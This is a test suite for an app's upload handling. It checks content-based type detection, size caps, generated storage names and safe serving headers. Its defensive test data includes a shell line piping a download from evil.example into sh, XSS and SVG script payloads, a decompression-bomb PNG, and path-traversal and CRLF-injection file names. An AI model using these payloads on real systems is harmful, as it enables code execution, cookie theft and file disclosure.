// Uploads: the type is decided by the bytes (scripts and HTML under image or PDF names are refused), sizes are capped,
// stored names are generated (a client's file name is never used as a path), public images are re-encoded without
// metadata and served with nosniff and a sandboxing CSP, and private contract documents never go through /media.
import { existsSync } from "node:fs";
import path from "node:path";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../server/harness.js";
import { createPerson, makeImage, uploadGql, type Person } from "../server/profile-helpers.js";
import { contractFields, filesUnder, formData, gqlOutcome, PDF, snapshot, type FormValue } from "./support/api.js";
import { runCase } from "./support/cases.js";

const UPLOAD_PHOTO = `mutation($file: Upload!) { uploadProfilePhoto(file: $file) { id image imageThumb } }`;
const ADD_IMAGE = `mutation($album: ID!, $file: Upload!) { addAlbumImage(albumId: $album, file: $file) { id coverImage } }`;
const MB = 1024 * 1024;

let api: TestServer;
let employer: Person;
let houseManager: Person;
let albumId: string;

/** A PNG chunk with its CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A few hundred bytes declaring a 100,000 x 100,000 pixel canvas: a decompression bomb if decoded. */
function pixelBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", header), chunk("IDAT", deflateSync(Buffer.alloc(1000))), chunk("IEND", Buffer.alloc(0))]);
}

const HTML = Buffer.from("<!doctype html><html><body><script>fetch('/profiles/inbox/').then(r=>r.text()).then(alert)</script></body></html>");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n");
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>');
const JS = Buffer.from("alert(document.cookie); // %PDF-1.4 is not at the start");
const EXE = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0x90)]);
const GIF = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

function photo(user: Person | undefined, data: Buffer, name: string, type: string) {
  return uploadGql(api, user?.accessToken, UPLOAD_PHOTO, {}, "file", { data, name, type });
}

function createContract(overrides: Record<string, FormValue>) {
  return api.rest("POST", "/profiles/create_contract/", {
    raw: formData(contractFields(employer.profileId, houseManager.profileId, overrides)),
    token: employer.accessToken,
  });
}

beforeAll(async () => {
  api = await startTestServer();
  [employer, houseManager] = await Promise.all([createPerson(api, "employer"), createPerson(api, "house_manager")]);
  const album = await api.gql(`mutation { createAlbum(title: "Work") { id } }`, {}, houseManager.accessToken);
  albumId = album.body.data.createAlbum.id;
}, 120_000);

afterAll(async () => {
  await api?.close();
});

describe("type by content", () => {
  const disguised: Array<[string, Buffer, string, string]> = [
    ["HTML named photo.png", HTML, "photo.png", "image/png"],
    ["a shell script named photo.jpg", SCRIPT, "photo.jpg", "image/jpeg"],
    ["an SVG with a script", SVG, "photo.png", "image/svg+xml"],
    ["a PDF named photo.png", PDF, "photo.png", "image/png"],
    ["a GIF", GIF, "photo.gif", "image/gif"],
    ["an empty file", Buffer.alloc(0), "photo.png", "image/png"],
    ["a PNG signature followed by garbage", Buffer.concat([PNG_SIGNATURE(), Buffer.from("not really an image")]), "photo.png", "image/png"],
    ["a decompression bomb (100,000 x 100,000 pixels declared)", pixelBomb(), "photo.png", "image/png"],
  ];

  it.each(disguised)("refuses %s as a photo and stores nothing", async (_name, data, name, type) => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const started = Date.now();
      const outcome = gqlOutcome(await photo(houseManager, data, name, type));
      expect(outcome.status, outcome.text).toBe(400);
      expect(outcome.body.errors[0].message).toMatch(/JPEG, PNG or WebP/);
      expect(Date.now() - started).toBeLessThan(5000);
      expect(await snapshot(api)).toBe(before);
    });
  });

  it("refuses HTML named .png as an album image", async () => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const outcome = gqlOutcome(await uploadGql(api, houseManager.accessToken, ADD_IMAGE, { album: albumId }, "file", { data: HTML, name: "cake.png", type: "image/png" }));
      expect(outcome.status).toBe(400);
      expect(await snapshot(api)).toBe(before);
    });
  });

  const disguisedDocuments: Array<[string, Buffer]> = [
    ["HTML named contract.pdf", HTML],
    ["JavaScript named contract.pdf", JS],
    ["an SVG named contract.pdf", SVG],
    ["a Windows executable named contract.pdf", EXE],
    ["a shell script named contract.pdf", SCRIPT],
  ];

  it.each(disguisedDocuments)("refuses %s as a contract document and writes nothing", async (_name, data) => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const res = await createContract({ contract_document: { data, name: "contract.pdf", type: "application/pdf" } });
      expect(res.status).toBe(400);
      expect(res.body).toEqual({ error: "Contract document must be a PDF, PNG or JPEG file" });
      expect(await snapshot(api)).toBe(before);
    });
  });

  it("refuses a disguised document through GraphQL too", async () => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const input = {
        houseManagerId: String(houseManager.profileId),
        employerId: String(employer.profileId),
        terms: "Cooking",
        startDate: "2026-03-01",
        endDate: "2027-02-28",
        paymentDay: "Monthly",
        paymentAmount: 100,
        isRenewable: false,
        daysPerMonth: 20,
        contractDocument: null,
      };
      const res = await uploadGql(api, employer.accessToken, `mutation($input: CreateContractInput!) { createContract(input: $input) { contract { id } } }`, { input }, "input.contractDocument", {
        data: HTML,
        name: "contract.pdf",
        type: "application/pdf",
      });
      expect(gqlOutcome(res).status).toBe(400);
      expect(await snapshot(api)).toBe(before);
    });
  });
});

describe("sizes", () => {
  it("takes a document of exactly 5,242,880 bytes and refuses one byte more with the product's message", async () => {
    await runCase("authz", async () => {
      const exact = Buffer.concat([PDF, Buffer.alloc(5_242_880 - PDF.length, 0x20)]);
      expect((await createContract({ contract_document: { data: exact, name: "c.pdf", type: "application/pdf" } })).status).toBe(201);
      const before = await snapshot(api);
      const over = Buffer.concat([exact, Buffer.from(" ")]);
      const res = await createContract({ contract_document: { data: over, name: "c.pdf", type: "application/pdf" } });
      expect(res.status).toBe(400);
      expect(res.body).toEqual({ error: "Contract document size should be less than 5MB" });
      expect(await snapshot(api)).toBe(before);
    });
  });

  it("refuses a photo over 8 MB with 413's code, and one over the 10 MB upload cap too", async () => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const png = await makeImage("png", 32, 32);
      for (const size of [8 * MB + 1, 12 * MB]) {
        const padded = Buffer.concat([png, Buffer.alloc(size - png.length)]);
        const outcome = gqlOutcome(await photo(houseManager, padded, "big.png", "image/png"));
        expect(outcome.status, outcome.text).toBe(413);
        expect(outcome.body.errors[0].extensions.code).toBe("PAYLOAD_TOO_LARGE");
      }
      expect(await snapshot(api)).toBe(before);
    });
  });

  it("refuses several files, or too many fields, in one contract form with 413", async () => {
    await runCase("authz", async () => {
      const before = await snapshot(api);
      const twoFiles = formData(contractFields(employer.profileId, houseManager.profileId));
      twoFiles.append("contract_document", new Blob([new Uint8Array(PDF)]), "second.pdf");
      const res = await api.rest("POST", "/profiles/create_contract/", { raw: twoFiles, token: employer.accessToken });
      expect(res.status).toBe(413);
      const manyFields = formData(contractFields(employer.profileId, houseManager.profileId));
      for (let i = 0; i < 60; i += 1) manyFields.append(`extra${i}`, "x");
      expect((await api.rest("POST", "/profiles/create_contract/", { raw: manyFields, token: employer.accessToken })).status).toBe(413);
      expect(await snapshot(api)).toBe(before);
    });
  });
});

describe("stored names and serving", () => {
  const hostile = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow.png", "photo.png\r\nX-Injected: 1", "ﾠ%2e%2e%2fpasswd.png"];

  it.each(hostile)("never uses the client's file name %j as a path", async (name) => {
    await runCase("authz", async () => {
      const outcome = gqlOutcome(await photo(houseManager, await makeImage("png", 80, 60), name, "image/png"));
      expect(outcome.status, outcome.text).toBe(200);
      const { image, imageThumb } = outcome.body.data.uploadProfilePhoto;
      expect(image).toMatch(/^\/media\/profiles\/[0-9a-f-]{36}\.webp$/);
      expect(imageThumb).toMatch(/^\/media\/profiles\/[0-9a-f-]{36}-thumb\.webp$/);
      // Nothing landed outside the two upload folders, and no name from the client was used.
      const dataDir = api.server.config.dataDir;
      const everything = filesUnder(dataDir);
      // The upload folders, and the email outbox (server-named .eml files) since emails are queued without SMTP.
      for (const file of everything) expect(file).toMatch(/^(media|documents|outbox)\//);
      expect(everything.join("\n")).not.toMatch(/passwd|shadow|win\.ini|Injected/);
      expect(existsSync(path.join(dataDir, "..", "etc"))).toBe(false);
    });
  });

  it("stores a contract document under a generated key and names it itself when serving", async () => {
    await runCase("authz", async () => {
      const res = await createContract({ contract_document: { data: PDF, name: '../../"evil".pdf\r\nSet-Cookie: x=1', type: "application/pdf" } });
      expect(res.status).toBe(201);
      const row = await api.server.database.prisma.contract.findUniqueOrThrow({ where: { id: res.body.contract.id } });
      expect(row.contractDocument).toMatch(/^contracts\/[0-9a-f-]{36}\.pdf$/);
      const served = await api.rest("GET", `/profiles/contract_document/${row.id}/`, { token: houseManager.accessToken });
      expect(served.status).toBe(200);
      expect(served.headers.get("content-type")).toBe("application/pdf");
      expect(served.headers.get("content-disposition")).toBe(`inline; filename="contract-${row.id}.pdf"`);
      expect(served.headers.get("x-content-type-options")).toBe("nosniff");
      expect(served.headers.get("cache-control")).toBe("private, no-store");
      expect(served.headers.get("set-cookie")).toBeNull();
      expect(served.headers.get("content-security-policy")).toMatch(/script-src 'self'/);
    });
  });

  it("serves a PDF-and-HTML polyglot as a PDF, never as a page", async () => {
    await runCase("authz", async () => {
      const polyglot = Buffer.concat([PDF, HTML]);
      const res = await createContract({ contract_document: { data: polyglot, name: "c.html", type: "text/html" } });
      expect(res.status).toBe(201);
      const served = await api.rest("GET", `/profiles/contract_document/${res.body.contract.id}/`, { token: employer.accessToken });
      expect(served.headers.get("content-type")).toBe("application/pdf");
      expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    });
  });

  it("re-encodes public images: a PNG carrying HTML and GPS data is stored as a clean WebP, served with nosniff and a sandbox", async () => {
    await runCase("authz", async () => {
      const jpeg = await sharp(await makeImage("jpeg", 120, 90))
        .withExif({ IFD0: { Copyright: "home-address-secret" }, IFD3: { GPSLatitudeRef: "S", GPSLatitude: "1/1 17/1 0/1" } })
        .jpeg()
        .toBuffer();
      expect((await sharp(jpeg).metadata()).exif).toBeDefined();
      const carrier = Buffer.concat([jpeg, HTML]);
      const outcome = gqlOutcome(await photo(houseManager, carrier, "me.jpg", "image/jpeg"));
      expect(outcome.status, outcome.text).toBe(200);
      const served = await fetch(api.url + outcome.body.data.uploadProfilePhoto.image);
      expect(served.status).toBe(200);
      const bytes = Buffer.from(await served.arrayBuffer());
      expect(bytes.subarray(0, 4).toString("latin1")).toBe("RIFF");
      expect(bytes.subarray(8, 12).toString("latin1")).toBe("WEBP");
      expect(bytes.toString("latin1")).not.toMatch(/<script|home-address-secret/);
      const metadata = await sharp(bytes).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(served.headers.get("content-type")).toBe("image/webp");
      expect(served.headers.get("x-content-type-options")).toBe("nosniff");
      const csp = served.headers.get("content-security-policy") ?? "";
      expect(csp).toMatch(/default-src 'none'/);
      expect(csp).toMatch(/sandbox/);
    });
  });

  it.each(["/media/.env", "/media/profiles/", "/media/", "/media/no-such-file.webp", "/media/../package.json", "/media/%2e%2e/package.json", "/media/..%2f..%2fpackage.json"])(
    "serves nothing else under /media: %s",
    async (pathname) => {
      await runCase("authz", async () => {
        const res = await fetchRaw(pathname);
        expect(res.text).not.toMatch(/"name":\s*"maidmatch"/);
        if (pathname.startsWith("/media/") && !pathname.includes("..") && !pathname.includes("%2e")) {
          expect(res.status).toBeGreaterThanOrEqual(400);
          expect(res.status).toBeLessThan(500);
        }
      });
    },
  );
});

function PNG_SIGNATURE(): Buffer {
  return Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
}

/** A GET with the path sent exactly as written (fetch would resolve dot segments first). */
async function fetchRaw(pathname: string) {
  const http = await import("node:http");
  return new Promise<{ status: number; text: string }>((resolve, reject) => {
    const req = http.request(`${api.url}/`, { path: pathname }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString("utf8") }));
    });
    req.on("error", reject);
    req.end();
  });
}
